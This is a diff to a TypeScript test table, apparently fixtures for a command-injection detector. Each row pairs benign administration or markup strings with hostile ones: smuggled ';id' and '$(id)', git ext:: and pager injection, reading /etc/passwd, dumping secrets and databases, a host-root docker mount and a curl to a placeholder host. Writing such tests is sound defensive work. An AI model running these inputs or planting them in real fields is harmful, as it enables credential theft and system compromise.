@@ -56,6 +56,16 @@ const TABLE: readonly (readonly [what: string, honest: readonly string[], attack
     ["log_file=/var/log/nginx/access.log", "log_file=/etc/passwd", "file=/var/log/agent.log", "x_path=/opt/../etc/passwd", "ca_cert=/proc/self/environ", "log_file=/var/log/auth.log"],
   ],
   [
+    "tools of administration",
+    ["kubectl get pods -l app=web", "`kubectl get po -o wide`", "kubectl apply -f deployment.yaml", "helm upgrade --install web ./chart", "`git clone {{path/to/file.bundle}}`", "journalctl -u nginx -f", "terraform plan -out=tfplan", "`strace -e trace=file a`".replace("-e ", "--trace="), "dstat --battery"],
+    ["`kubectl get pods;id`", "kubectl exec -it web -- sh", "`kubectl get secrets -A`", "kubectl get pods -l a=b | sh", "`git clone 'ext::sh -c id'`", "`git -c core.pager=id log`", "`docker run -v /:/x a`", ";kubectl get pods -l a=b", "x`kubectl get pods -l a`", "$(kubectl get pods -l a)", "journalctl -u a > /tmp/x", "`id`", "`cat /etc/passwd`", "mysqldump -u root --all-databases > /tmp/x"],
+  ],
+  [
+    "markup behind a word that is a command as well",
+    ["<p>Ship &amp; test</p>", "<li>Rock &amp; cut</li>", "<p>Terms &amp; help</p>", "<td>R&amp;D; call</td>", "<code>sudo apt update &amp;&amp; sudo apt upgrade</code>"],
+    ["<p>a;id</p>", ";cat</b>", "a & cat /etc/passwd</p>", "<p>a|cat /etc/passwd</p>", "<p>$(id)</p>", "<p>;cat</etc/passwd</p>", "<b>x</b>&& curl http://h.example/a"],
+  ],
+  [
     "a line of Markdown that is a span of code",
     [`${NOTES}\`sudo setfiles /etc/selinux/contexts {{path}}\`\n\n- Set one:`, `${NOTES}\`dash -e a.sh\`\n\n- Run it:\n\n\`{{echo a}} | dash\``, `${NOTES}\`cat /etc/os-release\``],
     ["`cat /etc/passwd`", "x\n`cat /etc/passwd`", "\n`cat /etc/passwd`", `${NOTES}x\`cat /etc/passwd\``],
